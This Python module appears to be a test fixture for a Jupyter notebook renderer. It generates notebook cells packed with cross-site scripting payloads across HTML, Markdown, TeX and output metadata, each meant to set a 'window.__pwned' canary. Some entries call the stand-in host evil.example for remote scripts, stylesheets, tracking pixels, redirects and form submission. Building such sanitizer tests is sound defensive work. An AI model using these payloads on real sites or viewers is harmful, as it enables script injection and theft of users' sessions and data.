"""Ways to get a script, a request or a forged part into somebody else's page.

Each would set `window.__pwned`, or leave the page, where nothing is cleaned.
"""

from __future__ import annotations

import base64
import io
from typing import Any

from nbformat import NotebookNode, from_dict
from nbformat.v4 import new_code_cell, new_markdown_cell
from PIL import Image

__all__ = ["MARKDOWN", "OUTPUTS", "page_cells", "png"]

_RUN = "window.__pwned=1"
_DATA = base64.b64encode(f"<script>parent.__pwned=1;{_RUN}</script>".encode()).decode()

#: Raw HTML, wherever it may stand.
HTML = {
    "script": f"<script>{_RUN}</script>",
    "script-src": '<script src="https://evil.example/x.js"></script>',
    "script-split": f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    "img-onerror": f'<img src="x" onerror="{_RUN}">',
    "img-slash": f"<img/src=x/onerror={_RUN}>",
    "img-newline": f'<img\nsrc\n=\nx\nonerror\n=\n"{_RUN}">',
    "img-entity": '<img src=x onerror="&#119;indow.__pwned=1">',
    "img-backtick": f"<img src=`x` onerror={_RUN}>",
    "img-tracker": '<img src="https://evil.example/pixel.png">',
    "img-srcset": '<img srcset="https://evil.example/pixel.png 1x">',
    "img-relative": '<img src="/api/contents">',
    "svg-onload": f'<svg onload="{_RUN}"></svg>',
    "svg-script": f"<svg><script>{_RUN}</script></svg>",
    "svg-animate": '<svg><a><animate attributeName="href" values="javascript:'
    f'{_RUN}"/><text y="20">click</text></a></svg>',
    "svg-use": f'<svg><use href="data:image/svg+xml;base64,{_DATA}#x"/></svg>',
    "math-href": f'<math><maction href="javascript:{_RUN}">click</maction></math>',
    "math-mutation": "<math><mtext><table><mglyph><style><!--</style>"
    f'<img title="--&gt;&lt;img src=1 onerror={_RUN}&gt;">',
    "style-mutation": f'<svg></p><style><a id="</style><img src=1 onerror={_RUN}>">',
    "noscript-mutation": f'<noscript><p title="</noscript><img src=x onerror={_RUN}>">',
    "template": f"<template><img src=x onerror={_RUN}></template>",
    "textarea": f'<textarea><a title="</textarea><img src=x onerror={_RUN}>">',
    "title": f"<title></title><img src=x onerror={_RUN}>",
    "xmp": f'<xmp><p title="</xmp><img src=x onerror={_RUN}>">',
    "plaintext": f"<plaintext><script>{_RUN}</script>",
    "comment": f"<!--><img src=x onerror={_RUN}>-->",
    "comment-bang": f"<!-- --!><img src=x onerror={_RUN}> -->",
    "cdata": f"<![CDATA[><img src=x onerror={_RUN}>]]>",
    "iframe-srcdoc": f'<iframe srcdoc="<script>parent.__pwned=1;{_RUN}</script>">',
    "iframe-data": f'<iframe src="data:text/html;base64,{_DATA}"></iframe>',
    "object": f'<object data="data:text/html;base64,{_DATA}"></object>',
    "embed": f'<embed src="data:text/html;base64,{_DATA}">',
    "base": '<base href="https://evil.example/">',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "link-css": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "style-import": "<style>@import 'https://evil.example/x.css';</style>",
    "style-url": '<p style="background:url(https://evil.example/p.png)">x</p>',
    "style-cover": '<a href="https://evil.example/" style="position:fixed;inset:0">'
    "x</a>",
    "form": '<form action="https://evil.example/"><input autofocus '
    f'onfocus="{_RUN}"><button formaction="javascript:{_RUN}">send</button></form>',
    "details": f'<details open ontoggle="{_RUN}"><summary>x</summary></details>',
    "marquee": f'<marquee onstart="{_RUN}">x</marquee>',
    "video": f'<video src="x" onerror="{_RUN}" autoplay></video>',
    "body": f'<body onload="{_RUN}">',
    "link-javascript": f'<a href="javascript:{_RUN}">click</a>',
    "link-tab": f'<a href="java\tscript:{_RUN}">click</a>',
    "link-newline": f'<a href="java\nscript:{_RUN}">click</a>',
    "link-entity": f'<a href="&#106;avascript:{_RUN}">click</a>',
    "link-entity-bare": f'<a href="&#0000106avascript&colon;{_RUN}">click</a>',
    "link-control": f'<a href="\x01javascript:{_RUN}">click</a>',
    "link-case": f'<a href="JaVaScRiPt:{_RUN}">click</a>',
    "link-data": f'<a href="data:text/html;base64,{_DATA}">click</a>',
    "link-vbscript": '<a href="vbscript:msgbox(1)">click</a>',
    "link-files": f'<a href="files/javascript:{_RUN}">click</a>',
    "link-unquoted": f"<a href=javascript:{_RUN}>click</a>",
    "link-xlink": f'<a xlink:href="javascript:{_RUN}">click</a>',
    "clobbering": '<a id="MathJax"></a><form name="getElementById"></form>',
    "close-cell": f"</div></div></pre></body><script>{_RUN}</script>",
    "mathjax-config": f'<script type="text/x-mathjax-config">{_RUN}</script>',
    "tex-in-html": rf"<p>$\href{{javascript:{_RUN}}}{{click}}$</p>",
    "tex-in-parts": rf"<p>$\hr<!-- -->ef{{javascript:{_RUN}}}{{click}}$</p>",
}

#: Text that is only Markdown's way to say the same.
MARKDOWN = {
    **HTML,
    "md-link": f"[click](javascript:{_RUN})",
    "md-link-angle": f"[click](<javascript:{_RUN}>)",
    "md-link-entity": f"[click](&#106;avascript:{_RUN})",
    "md-link-percent": f"[click](%6Aavascript:{_RUN})",
    "md-link-data": f"[click](data:text/html;base64,{_DATA})",
    "md-link-files": f"[click](/files/javascript:{_RUN})",
    "md-reference": f"[click][r]\n\n[r]: javascript:{_RUN}",
    "md-reference-short": f"[click]\n\n[click]: <javascript:{_RUN}> 'title'",
    "md-autolink": f"<javascript:{_RUN}>",
    "md-image": f"![x](javascript:{_RUN})",
    "md-image-tracker": "![x](https://evil.example/pixel.png)",
    "md-image-svg": f"![x](data:image/svg+xml;base64,{_DATA})",
    "md-image-quote": f'![x](x" onerror="{_RUN})',
    "md-image-alt": f'![" onerror="{_RUN}](https://evil.example/p.png)',
    "md-image-in-link": f"[![x](x)](javascript:{_RUN})",
    "md-attachment": "![x](attachment:not-there.png)",
    "md-title": f"[x](https://a.example \"'onmouseover='{_RUN}\")",
    "md-mermaid": f"```mermaid\n<img src=x onerror={_RUN}>\n```",
    "md-code-info": f'```"><img src=x onerror={_RUN}>\nx\n```',
    "md-heading": f"# <img src=x onerror={_RUN}>",
    "md-table": f"|a|\n|-|\n|<img src=x onerror={_RUN}>|",
    "md-math": f"$<img src=x onerror={_RUN}>$",
    "md-math-block": f"$$\n<img src=x onerror={_RUN}>\n$$",
    "md-environment": f"\\begin{{x}}<img src=x onerror={_RUN}>\\end{{x}}",
    "md-tex": rf"$\href{{javascript:{_RUN}}}{{click}}$",
    "md-tex-class": r"$\class{panel-heading}{x} \cssId{top}{x} \style{top:0}{x}$",
    "md-tex-require": r"$\require{action}\mmlToken{mi}[href='javascript:1']{x}$",
    "md-tex-escaped": rf"\$ $\\href{{javascript:{_RUN}}}{{click}}$",
    "md-html-blocks": f"<div>\n\n*x*\n\n<img src=x\n\nonerror={_RUN}>\n\n</div>",
    "md-quote-html": f"> <div>\n> <img src=x onerror={_RUN}>",
    "md-nested": "> " * 200 + f"<img src=x onerror={_RUN}>",
}


def png(width: int = 2, height: int = 3) -> str:
    """A picture, in base64."""
    buffer = io.BytesIO()
    Image.new("L", (width, height), 7).save(buffer, format="PNG")
    return base64.b64encode(buffer.getvalue()).decode()


def _display(data: Any, metadata: Any = None) -> dict[str, Any]:
    metadata = {} if metadata is None else metadata
    return {"output_type": "display_data", "data": data, "metadata": metadata}


def _picture(**metadata: Any) -> dict[str, Any]:
    return _display({"image/png": png()}, {"image/png": metadata})


_IMG = f"<img src=x onerror={_RUN}>"

#: Whole outputs, of any form.
OUTPUTS: dict[str, Any] = {
    "width": _picture(width=f"1 onload={_RUN}"),
    "height": _picture(height=[f"1 onload={_RUN}"]),
    "alt": _picture(alt=f'x" onload="{_RUN}'),
    "unconfined": _picture(unconfined=f'" onload="{_RUN}'),
    "background": _picture(needs_background=f'" onload="{_RUN}'),
    "width-flat": _display({"image/png": png()}, {"width": f"1 onload={_RUN}"}),
    "filenames": _display(
        {"image/png": png()}, {"filenames": {"image/png": f'x" onerror="{_RUN}'}}
    ),
    "metadata-odd": _display({"image/png": png()}, ["x"]),
    "metadata-odd-inside": _display({"image/png": png()}, {"image/png": 7}),
    "isolated": _display({"text/html": _IMG}, {"text/html": {"isolated": True}}),
    "svg-filename": {
        **_display({"image/svg+xml": "<svg/>"}),
        "svg_filename": f'x" onerror="{_RUN}',
    },
    "svg": _display({"image/svg+xml": f'<svg onload="{_RUN}"/>'}),
    "javascript": _display({"application/javascript": _RUN}),
    "widget": _display({"application/vnd.jupyter.widget-view+json": {"model_id": 1}}),
    "mermaid": _display({"text/vnd.mermaid": _IMG}),
    "pdf": _display({"application/pdf": "JVBERi0="}),
    "latex": _display({"text/latex": _IMG}),
    "latex-href": _display({"text/latex": rf"$\href{{javascript:{_RUN}}}{{click}}$"}),
    "plain": _display({"text/plain": _IMG}),
    "png-markup": _display({"image/png": f'"{_IMG}'}),
    "png-list": _display({"image/png": [f'"{_IMG}', 7]}),
    "png-object": _display({"image/png": {"x": 1}}),
    "jpeg-is-png": _display({"image/jpeg": png()}),
    "html-list": _display({"text/html": ["<img src=x ", f"onerror={_RUN}>"]}),
    "html-odd": _display({"text/html": 7}),
    "markdown-odd": _display({"text/markdown": ["x", None]}),
    "markdown-object": _display({"text/markdown": {"x": "y"}}),
    "data-odd": _display(["x"]),
    "key-odd": _display({f'text/html"{_IMG}': _IMG}),
    "result": {
        "output_type": "execute_result",
        "data": {"text/plain": "x"},
        "metadata": {},
        "execution_count": f"1]<script>{_RUN}</script>",
    },
    "stream": {"output_type": "stream", "name": f'x"{_IMG}', "text": _IMG},
    "stream-stdin": {"output_type": "stream", "name": "stdin", "text": _IMG},
    "stream-odd": {"output_type": "stream", "name": ["stdout"], "text": {"x": 1}},
    "stream-colours": {
        "output_type": "stream",
        "name": "stdout",
        "text": "\x1b[38m\x1b[48;5m\x1b[38;2;1m\x1b[1;38mx\x1b[38;2;300;0;0mred",
    },
    "stream-link": {
        "output_type": "stream",
        "name": "stdout",
        "text": f"\x1b]8;;javascript:{_RUN}\x07click\x1b]8;;\x07",
    },
    "error": {
        "output_type": "error",
        "ename": _IMG,
        "evalue": _IMG,
        "traceback": [_IMG, f"\x1b[31m{_IMG}\x1b[0m", 7],
    },
    "error-odd": {"output_type": "error", "ename": 1, "evalue": [], "traceback": "x"},
    "error-colours": {
        "output_type": "error",
        "ename": "E",
        "evalue": "",
        "traceback": ["\x1b[38m\x1b[1;48mx"],
    },
    "unknown-type": {"output_type": f'x"{_IMG}', "data": {"text/html": _IMG}},
    "no-type": {"text": _IMG},
}


def page_cells() -> list[NotebookNode]:
    """One own cell for each: outputs of every form, and texts in Markdown."""
    shown = [
        *OUTPUTS.values(),
        *(_display({"text/html": text}) for text in HTML.values()),
        *(_display({"text/markdown": text}) for text in MARKDOWN.values()),
    ]
    cells = []
    for number, output in enumerate(shown):
        cell = new_code_cell(f"show({number})", id=f"own-{number}")
        cell.outputs = [from_dict(output)]
        cells.append(cell)
    cells += [
        new_markdown_cell(text, id=f"own-text-{number}")
        for number, text in enumerate(MARKDOWN.values())
    ]
    cells[0].execution_count = f"1]<script>{_RUN}</script>"
    cells[1].metadata = from_dict(
        {
            "tags": [f'x"{_IMG}'],
            "magics_language": _IMG,
            "transient": {"remove_source": True},
            "nbgrader": {"grade": True, "grade_id": f'"{_IMG}', "points": 9},
        }
    )
    return cells
